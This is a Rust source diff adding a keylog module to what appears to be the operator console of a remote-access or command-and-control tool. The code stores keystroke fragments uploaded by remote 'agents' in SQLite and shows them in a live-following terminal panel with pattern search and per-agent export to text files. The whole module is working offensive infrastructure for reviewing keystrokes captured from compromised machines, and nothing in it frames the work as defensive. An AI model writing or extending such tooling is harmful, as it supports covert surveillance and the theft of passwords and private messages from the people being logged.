@@ -0,0 +1,261 @@
+use std::fs::{self, File};
+use std::io::{BufWriter, Write};
+use std::path::PathBuf;
+
+use chrono::Utc;
+use crossterm::event::{KeyCode, KeyEvent};
+use ratatui::layout::Rect;
+use ratatui::style::{Modifier, Style};
+use ratatui::text::{Line, Span};
+use ratatui::widgets::{Clear, Paragraph};
+use ratatui::Frame;
+use rusqlite::{Connection, Row};
+
+use crate::error::Result;
+use crate::form::TextInput;
+use crate::screenshots::{beside_db, safe_component};
+use crate::theme::ColorScheme;
+use crate::timefmt::now_timestamp;
+
+// Fragment de frappes remonté par un agent, horodaté à la réception
+#[derive(Debug, Clone)]
+pub struct KeylogChunk {
+    pub id: i64,
+    pub captured_at: String,
+    pub content: String,
+}
+
+pub fn ensure_keylogs_table(conn: &Connection) -> rusqlite::Result<()> {
+    conn.execute(
+        "CREATE TABLE IF NOT EXISTS keylogs (
+            id INTEGER PRIMARY KEY AUTOINCREMENT,
+            agent_id TEXT NOT NULL,
+            captured_at TEXT NOT NULL,
+            content TEXT NOT NULL,
+            FOREIGN KEY(agent_id) REFERENCES agents(id)
+        )",
+        [],
+    )?;
+    conn.execute("CREATE INDEX IF NOT EXISTS keylogs_agent ON keylogs(agent_id, id)", [])?;
+    Ok(())
+}
+
+pub fn store_keylog_chunk(conn: &Connection, agent_id: &str, content: &str) -> Result<()> {
+    conn.execute(
+        "INSERT INTO keylogs (agent_id, captured_at, content) VALUES (?1, ?2, ?3)",
+        (agent_id, now_timestamp(), content),
+    )?;
+    Ok(())
+}
+
+fn chunk_from_row(row: &Row) -> rusqlite::Result<KeylogChunk> {
+    Ok(KeylogChunk {
+        id: row.get(0)?,
+        captured_at: row.get(1)?,
+        content: row.get(2)?,
+    })
+}
+
+// Fragments reçus après after_id, dans l'ordre d'arrivée
+pub fn keylog_since(conn: &Connection, agent_id: &str, after_id: i64) -> rusqlite::Result<Vec<KeylogChunk>> {
+    let mut stmt = conn.prepare_cached(
+        "SELECT id, captured_at, content FROM keylogs WHERE agent_id = ?1 AND id > ?2 ORDER BY id",
+    )?;
+    let rows = stmt.query_map((agent_id, after_id), chunk_from_row)?;
+    rows.collect()
+}
+
+pub fn remove_all_keylogs(conn: &Connection, agent_id: &str) -> rusqlite::Result<()> {
+    conn.execute("DELETE FROM keylogs WHERE agent_id = ?1", [agent_id])?;
+    Ok(())
+}
+
+// keylogs/<agent_id>/<horodatage>.txt à côté de la base, chaque fragment précédé de son heure
+pub fn export_keylog(conn: &Connection, agent_id: &str) -> Result<PathBuf> {
+    let chunks = keylog_since(conn, agent_id, 0)?;
+    let dir = beside_db(conn, "keylogs").join(safe_component(agent_id));
+    fs::create_dir_all(&dir)?;
+    let path = dir.join(format!("{}.txt", Utc::now().format("%Y%m%dT%H%M%S%.3fZ")));
+    let mut out = BufWriter::new(File::create(&path)?);
+    for chunk in &chunks {
+        writeln!(out, "[{}]", chunk.captured_at)?;
+        writeln!(out, "{}", chunk.content)?;
+    }
+    out.flush()?;
+    Ok(path)
+}
+
+pub enum KeylogOutcome {
+    Pending,
+    Closed,
+    Export,
+}
+
+// Une ligne affichée : l'en-tête d'un fragment ou une ligne de son contenu
+struct KeylogLine {
+    header: bool,
+    text: String,
+}
+
+// Panneau ouvert avec K sur un agent : tous ses fragments bout à bout, complétés à chaque
+// tick. Il suit la fin tant que l'opérateur n'est pas remonté.
+pub struct KeylogPanel {
+    pub agent_id: String,
+    last_id: i64,
+    chunks: usize,
+    lines: Vec<KeylogLine>,
+    scroll: usize,
+    follow: bool,
+    // Saisie en cours après /, puis motif retenu avec Entrée
+    search: Option<TextInput>,
+    pattern: String,
+    height: usize,
+}
+
+impl KeylogPanel {
+    pub fn new(agent_id: &str) -> KeylogPanel {
+        KeylogPanel {
+            agent_id: agent_id.to_string(),
+            last_id: 0,
+            chunks: 0,
+            lines: Vec::new(),
+            scroll: 0,
+            follow: true,
+            search: None,
+            pattern: String::new(),
+            height: 0,
+        }
+    }
+
+    // Dernier fragment affiché : seuls les suivants sont relus
+    pub fn last_id(&self) -> i64 {
+        self.last_id
+    }
+
+    pub fn append(&mut self, chunks: Vec<KeylogChunk>) {
+        for chunk in chunks {
+            if chunk.id <= self.last_id {
+                continue;
+            }
+            self.last_id = chunk.id;
+            self.chunks += 1;
+            self.lines.push(KeylogLine { header: true, text: format!("── {} ──", chunk.captured_at) });
+            self.lines.extend(chunk.content.lines().map(|l| KeylogLine { header: false, text: l.to_string() }));
+        }
+    }
+
+    fn max_scroll(&self) -> usize {
+        self.lines.len().saturating_sub(self.height.max(1))
+    }
+
+    // Ligne suivante (ou précédente) contenant le motif, en repartant de l'autre bout
+    fn find_match(&self, forward: bool) -> Option<usize> {
+        if self.pattern.is_empty() || self.lines.is_empty() {
+            return None;
+        }
+        let matches = |i: &usize| !self.lines[*i].header && self.lines[*i].text.contains(&self.pattern);
+        let count = self.lines.len();
+        if forward {
+            (self.scroll + 1..count).chain(0..=self.scroll.min(count - 1)).find(matches)
+        } else {
+            (0..self.scroll).rev().chain((self.scroll..count).rev()).find(matches)
+        }
+    }
+
+    pub fn handle_key(&mut self, key: KeyEvent) -> KeylogOutcome {
+        if let Some(input) = self.search.as_mut() {
+            match key.code {
+                KeyCode::Enter => {
+                    self.pattern = input.content.clone();
+                    self.search = None;
+                    if let Some(line) = self.find_match(true) {
+                        self.follow = false;
+                        self.scroll = line.min(self.max_scroll());
+                    }
+                }
+                KeyCode::Esc => self.search = None,
+                _ => {
+                    input.handle_key(key);
+                }
+            }
+            return KeylogOutcome::Pending;
+        }
+        let page = self.height.max(1);
+        let target = match key.code {
+            KeyCode::Esc | KeyCode::Char('q') => return KeylogOutcome::Closed,
+            KeyCode::Char('K') => return KeylogOutcome::Export,
+            KeyCode::Char('/') => {
+                self.search = Some(TextInput::new(&self.pattern));
+                return KeylogOutcome::Pending;
+            }
+            KeyCode::Char('n') | KeyCode::Char('N') => {
+                match self.find_match(key.code == KeyCode::Char('n')) {
+                    Some(line) => line,
+                    None => return KeylogOutcome::Pending,
+                }
+            }
+            KeyCode::Down | KeyCode::Char('j') => self.scroll + 1,
+            KeyCode::Up | KeyCode::Char('k') => self.scroll.saturating_sub(1),
+            KeyCode::PageDown => self.scroll + page,
+            KeyCode::PageUp => self.scroll.saturating_sub(page),
+            KeyCode::Char('g') | KeyCode::Home => 0,
+            KeyCode::Char('G') | KeyCode::End => usize::MAX,
+            _ => return KeylogOutcome::Pending,
+        };
+        self.scroll = target.min(self.max_scroll());
+        self.follow = self.scroll == self.max_scroll();
+        KeylogOutcome::Pending
+    }
+
+    // Occurrences du motif surlignées en vidéo inverse
+    fn highlighted<'a>(&self, text: &'a str, base: Style) -> Line<'a> {
+        if self.pattern.is_empty() {
+            return Line::from(Span::styled(text, base));
+        }
+        let mut spans = Vec::new();
+        let mut rest = 0;
+        for (start, found) in text.match_indices(&self.pattern) {
+            spans.push(Span::styled(&text[rest..start], base));
+            spans.push(Span::styled(found, base.add_modifier(Modifier::REVERSED)));
+            rest = start + found.len();
+        }
+        spans.push(Span::styled(&text[rest..], base));
+        Line::from(spans)
+    }
+}
+
+pub fn draw_keylog_panel(f: &mut Frame, panel: &mut KeylogPanel, area: Rect, scheme: &ColorScheme) {
+    f.render_widget(Clear, area);
+    let title = format!(
+        "Keylog de {} ({} fragments) — /: chercher, n/N, K: exporter, Échap",
+        panel.agent_id, panel.chunks,
+    );
+    let block = scheme.block(title);
+    let inner = block.inner(area);
+    // La dernière ligne sert à la saisie du motif
+    let prompt = panel.search.is_some() || !panel.pattern.is_empty();
+    panel.height = (inner.height as usize).saturating_sub(prompt as usize);
+    if panel.follow {
+        panel.scroll = panel.max_scroll();
+    }
+    panel.scroll = panel.scroll.min(panel.max_scroll());
+
+    let end = (panel.scroll + panel.height).min(panel.lines.len());
+    let mut lines: Vec<Line> = if panel.lines.is_empty() {
+        vec![Line::from(Span::styled("Aucune frappe reçue", scheme.dim()))]
+    } else {
+        panel.lines[panel.scroll..end]
+            .iter()
+            .map(|l| if l.header { Line::from(Span::styled(l.text.as_str(), scheme.dim())) } else { panel.highlighted(&l.text, scheme.base()) })
+            .collect()
+    };
+    if prompt {
+        lines.resize(panel.height, Line::from(""));
+        let text = match &panel.search {
+            Some(input) => format!("/{}", input.content),
+            None => format!("/{} (n/N)", panel.pattern),
+        };
+        lines.push(Line::from(Span::styled(text, scheme.accent())));
+    }
+    f.render_widget(Paragraph::new(lines).block(block), area);
+}